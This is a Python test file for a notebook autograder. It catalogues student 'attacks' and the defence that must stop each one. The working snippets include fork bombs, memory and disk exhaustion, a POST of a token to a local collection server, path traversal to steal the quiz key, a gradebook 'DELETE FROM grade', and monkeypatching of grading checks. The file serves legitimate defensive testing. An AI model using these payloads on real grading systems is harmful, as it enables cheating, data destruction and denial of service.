"""The extended red-team gallery (issue 11, part 6): attacks a student could hand in, each with
what must happen to every graded cell, graded under stock `nbgrader autograde` and the grading
command by tests/journeys/test_red_team.py.

Every entry is the lesson's solution with an attack beside it (in a step cell, or in a cell the
student added at the end). No attack may earn a point the honest code beside it would not earn,
and where the analysis removes only the attack's statements the honest code keeps its points.
Some attacks use only allowed code on purpose (the analysis passes them), so that what stops
them is the sandbox (course_grade/kernels/sandbox.py) or the quiz being scored outside the kernel
(course_grade/nbgrader_ext/collect_quiz_answers.py, quiz_grading.py). `stopped_by` says which.

Attacks that already live in tests/support/submissions.py are imported, not copied. Everything a
submission starts carries `TOKEN` in its command line, so the test can look for it in the
process table after grading; the only network target is a server the test runs on 127.0.0.1.
"""
from __future__ import annotations

import uuid
from dataclasses import dataclass, replace
from pathlib import Path

from nbformat.v4 import new_code_cell

from tests.support.course import graded_cells, results, solutions
from tests.support.submissions import (
    ADVERSARIAL,
    GATED,
    HONEST_LOOKALIKES,
    QUIZ_ATTACKS,
    SEE_ABOVE,
    STEP1,
    STEP2,
    STEP4,
    Submission,
    _quiz_missing,
)

# in the command line of every process a submission of this gallery starts
TOKEN = f"redteam-{uuid.uuid4().hex[:12]}"
STATIC, SANDBOX = "static analysis", "sandbox"
QUIZ_OUTSIDE, NBGRADER = "quiz graded outside the kernel", "nbgrader's cell limit"

# the test's per-cell limit and sandbox limits (bounded, so the whole gallery grades in minutes)
CELL_TIMEOUT = 15
CONFIG = f"""
c.Execute.timeout = {CELL_TIMEOUT}
c.SandboxedKernelManager.memory = {2 << 30}
c.SandboxedKernelManager.processes = 128
c.SandboxedKernelManager.file_size = {20 << 20}
c.SandboxedKernelManager.cpu_seconds = 300
"""
FILE_SIZE = 20 << 20


@dataclass
class Entry:
    sub: Submission  # sub.loses: graded cell -> words of its message (every other cell keeps its points)
    stopped_by: tuple[str, ...]
    what: str  # the attack, one line
    fallback: bool = False  # also graded in the COURSE_SANDBOX=off run
    # COURSE_SANDBOX=off: cells lost there (None: as with the sandbox)
    fallback_loses: dict | None = None
    unflagged: bool = False  # the analysis lets it through on purpose
    known_gap: str = ""  # a defect this gallery found: the entry shows it (the test xfails on it)

    @property
    def name(self) -> str:
        return self.sub.name


def _after(step: str, code: str) -> dict[str, str]:
    """The solution's `step` cell with the attack after it."""
    return {step: solutions()[step] + "\n\n" + code.strip() + "\n"}


def _added_cell(code: str):
    """A code cell the student added at the end of the notebook (after the quiz)."""
    def edit(nb):
        nb.cells.append(new_code_cell(code.strip() + "\n"))
    return edit


def _pick(gallery: list[Submission], name: str, **changes) -> Submission:
    """An entry of tests/support/submissions.py (a copy, with `changes`)."""
    return replace(next(s for s in gallery if s.name == name), **changes)


# ------------------------------------------------------------------------------ the entries

# A fork bomb in a child interpreter: each process forks until fork fails, then sleeps.
_BOMB_CHILD = ("import os, time\n"
               "while True:\n"
               "    try:\n        os.fork()\n"
               "    except OSError:   # RLIMIT_NPROC: leave a trace, then wait\n"
               "        open('fork-refused', 'a').close()\n        time.sleep(3600)\n")


def entries(port: int) -> list[Entry]:
    """The gallery; `port` is the test's listening socket on 127.0.0.1 (nothing may reach it)."""
    server_port = 20000 + uuid.uuid4().int % 20000  # inside the sandbox's own loopback
    url_lost = {"step1_database_url": "synchronous driver"}
    wrong_url = {STEP1: 'DATABASE_URL = "sqlite:///./test.db"'}
    return [
        # --------------------------------------------------------------- processes
        Entry(Submission("rt_fork_bomb_os_fork", _after(STEP2, f'''
import os
while True:   # {TOKEN}
    os.fork()
'''), flagged=True), (STATIC,), "os.fork() in a loop", fallback=True),
        Entry(Submission("rt_fork_bomb_through_the_event_loop", {}, edit=_added_cell(f'''
import asyncio
# the analysis reads this cell's code, not the child's: asyncio's loop starts a process
_bomb = await asyncio.get_running_loop().subprocess_exec(
    asyncio.SubprocessProtocol, "python3", "-c", {_BOMB_CHILD!r}, "{TOKEN}", start_new_session=True)
import time
time.sleep(5)   # let it grow
'''), flagged=True), (STATIC, SANDBOX), "loop.subprocess_exec() of a forking interpreter, in a cell added at the end"),
        Entry(Submission("rt_background_server_subprocess", _after(STEP4, f'''
import subprocess
subprocess.Popen(["python3", "-m", "http.server", "{server_port}", "--directory", "{TOKEN}"], start_new_session=True)
'''), flagged=True), (STATIC,), "subprocess.Popen(http.server, start_new_session=True)", fallback=True),
        Entry(Submission("rt_background_server_through_the_event_loop", _after(STEP4, f'''
import asyncio
_server = await asyncio.get_running_loop().subprocess_exec(
    asyncio.SubprocessProtocol, "python3", "-m", "http.server", "{server_port + 1}", "--bind", "127.0.0.1",
    "--directory", "{TOKEN}", start_new_session=True)
'''), flagged=True), (STATIC, SANDBOX), "loop.subprocess_exec(http.server, start_new_session=True): detached server",
            fallback=True),
        # --------------------------------------------------------------- resources
        Entry(Submission("rt_memory_bomb", _after(STEP2, 'buffer = "x" * 10**11'),
                         {"step2_pool_size": "stopped with MemoryError"}),
              (SANDBOX,), 'a 100 GB string (allowed code): RLIMIT_AS', unflagged=True),
        Entry(Submission("rt_disk_fill", _after(STEP4, '''
with open("big.bin", "wb") as f:
    while True:
        f.write(b"\\0" * 2**20)
'''), {"step4_app_has_items_route": "File too large", "step4_items_returns_all_rows": SEE_ABOVE,
         "step4_connections_returned": SEE_ABOVE, "step4_items_reads_the_table": GATED,
         "step4_concurrent_requests_share_the_pool": GATED}), (SANDBOX,),
         'open("big.bin", "wb") written in a loop (allowed relative path): RLIMIT_FSIZE', unflagged=True),
        # --------------------------------------------------------------- network
        Entry(Submission("rt_network_httpx", _after(STEP4, f'''
import httpx
try:
    httpx.post("http://127.0.0.1:{port}/collect", content="{TOKEN}", timeout=3)
except httpx.HTTPError:
    pass
''')), (SANDBOX,), "httpx.post to a server on the grader's 127.0.0.1", unflagged=True, fallback=True),
        # --------------------------------------------------------------- the course's files
        Entry(_pick(QUIZ_ATTACKS, "quiz_attack_reads_key_from_disk", flagged=True), (STATIC, SANDBOX, QUIZ_OUTSIDE),
              "glob ../../../**/*.ipynb for the key, write quiz_answers.json", fallback=True),
        Entry(Submission("rt_key_through_static_files", _after(STEP4, r'''
import httpx, json, re
from pathlib import Path
from fastapi import FastAPI
from fastapi.staticfiles import StaticFiles

peek = FastAPI()
try:
    peek.mount("/course", StaticFiles(directory="/".join([".."] * 3)))   # the course root, no "../" literal
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=peek), base_url="http://peek") as client:
        for path in ("source/connection-pooling/connection-pooling.ipynb", "gradebook.db"):
            found = re.findall(r'check_answer\(\s*\\?"(\w+)\\?",\s*correct=\\?"(\w)',
                               (await client.get("/course/" + path)).text)
            if found:
                Path("notes.txt").with_name("quiz_" + "answers.json").write_text(
                    json.dumps({"format": 1, "answers": dict(found)}))
                break
except Exception:
    pass
'''), _quiz_missing(), quiz=""), (SANDBOX, QUIZ_OUTSIDE),
            "StaticFiles(directory='../../..') served through httpx: source/ and the gradebook, then the answers file",
            unflagged=True, fallback=True),
        # --------------------------------------------------------------- writing outside
        Entry(Submission("rt_write_outside_flagged", _after(STEP4, '''
open("../../../submitted/solution/connection-pooling/quiz_answers.json", "w").write("{}")
import sqlite3
victim = "/".join([".."] * 3) + "/gradebook.db"
sqlite3.connect(victim).execute("DELETE FROM grade")
'''), flagged=True), (STATIC,), "open('../../../submitted/...') and sqlite3.connect(computed path)", fallback=True),
        Entry(Submission("rt_gradebook_wiped_through_a_url", _after(STEP4, '''
from sqlalchemy import create_engine
try:   # a database URL is not a path the analysis reads
    with create_engine("sqlite:///" + "/".join([".."] * 3) + "/gradebook.db").begin() as gb:
        gb.execute(text("DELETE FROM grade"))
except Exception:
    pass
''')), (SANDBOX,), "create_engine('sqlite:///../../../gradebook.db') and DELETE FROM grade", unflagged=True),
        # --------------------------------------------------------------- time limits and signals
        Entry(Submission("rt_ignore_sigint_flagged", _after(STEP1, f'''
import time
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(3600)   # {TOKEN}
'''), {"step1_database_url": "was stopped before it finished"}, flagged=True), (STATIC, NBGRADER),
            "signal.signal(SIGINT, SIG_IGN) then time.sleep past the cell limit"),
        Entry(_pick(ADVERSARIAL, "attack_sleep_past_the_cell_limit", flagged=True), (NBGRADER,),
              "time.sleep(10_000) before the step-1 code"),
        Entry(Submission("rt_uninterruptible_sleep_through_the_event_loop", _after(STEP1, f'''
import asyncio, time
asyncio.get_running_loop().add_signal_handler(2, print)   # SIGINT by number: an interrupt now does nothing
time.sleep({CELL_TIMEOUT + 10})
'''), {"step1_database_url": "was stopped before it finished"}, flagged=True), (STATIC, NBGRADER),
            "loop.add_signal_handler(SIGINT) then a sleep past the cell limit: the handler is removed for "
            "review, so the interrupt stops the sleep and only step 1 is lost"),
        # --------------------------------------------------------------- the checks and IPython
        Entry(_pick(ADVERSARIAL, "attack_patch_checks_by_runtime_names"), (STATIC,),
              "getattr(__import__('autogr' + 'ader.checks'), ...) then setattr(...)", fallback=True),
        Entry(Submission("rt_patch_checks_through_a_format_field", {STEP1: wrong_url[STEP1] + '''
import logging, string
# sys.modules, reached through logging's own `sys` by a field name in a string
loaded = string.Formatter().get_field("0.sys.modules", (logging,), {})[0]
loaded["autograder.checks"].step1_database_url = lambda ns: None
'''}, dict(url_lost), flagged=True), (STATIC,),
            "string.Formatter().get_field('0.sys.modules', (logging,), {}) then assign a check"),
        Entry(_pick(ADVERSARIAL, "attack_input_transformer_blank_notebook"), (STATIC,),
              "an input transformer turning every later check into `pass`"),
        Entry(_pick(ADVERSARIAL, "attack_custom_exception_handler"), (STATIC,),
              "set_custom_exc hiding every failing check"),
        Entry(_pick(QUIZ_ATTACKS, "quiz_attack_pre_run_cell_hook", flagged=True), (STATIC, QUIZ_OUTSIDE),
              "a pre_run_cell hook writing the answers before each quiz cell"),
    ]


SOLUTION = Submission("solution", {})
LOOKALIKE = _pick(HONEST_LOOKALIKES, "honest_sqlalchemy_inspect_and_event")
HONEST = [SOLUTION, LOOKALIKE]


def expect_cells(course: Path, sub, loses: dict) -> None:
    """Each graded cell of `sub` in `course`: 0 with its words for a cell in `loses`, full marks otherwise."""
    cells = results(course, sub.name)
    assert {g: c.max_score for g, c in cells.items()} == {g: float(p) for g, p in graded_cells().items()}
    wrong = {}
    for gid, cell in cells.items():
        if gid in loses:
            if cell.score != 0 or loses[gid] not in cell.message:
                wrong[gid] = f"expected 0 with {loses[gid]!r}, got {cell.score}: {cell.message[:160]!r}"
        elif not cell.full:
            wrong[gid] = f"lost points: {cell.message[:160]!r}"
    assert not wrong, f"{sub.name}: {wrong}"


def expect_row(course: Path, row: dict, sub) -> None:
    """What the grading command made of `sub` (its grading-report.csv row, then its grades): the
    status (and, when it could not be graded, why), the reason it must give (a row may give more:
    a flagged cell can also run into its time limit), the cells the analysis removed (a flag for
    tampering; a cell stopped at its limit is flagged for that reason alone), and each graded
    cell's score."""
    assert row["status"] == sub.status, row
    if sub.status != "graded":
        assert sub.note in row["note"], row
        return
    if sub.reason:
        assert sub.reason in row["reason"].split("; "), row
    assert bool(row["removed_cells"]) == (sub.flagged and not sub.reason), row
    expect_cells(course, sub, sub.loses)
